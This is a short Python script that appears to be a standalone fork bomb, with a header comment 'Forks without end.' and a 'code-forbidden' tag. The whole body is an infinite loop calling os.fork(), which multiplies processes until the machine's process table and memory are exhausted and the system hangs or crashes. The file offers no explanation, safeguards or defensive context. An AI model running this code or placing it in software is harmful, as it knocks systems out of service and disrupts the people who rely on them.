# Forks without end.
# notices: code-forbidden
import os

while True:
    os.fork()
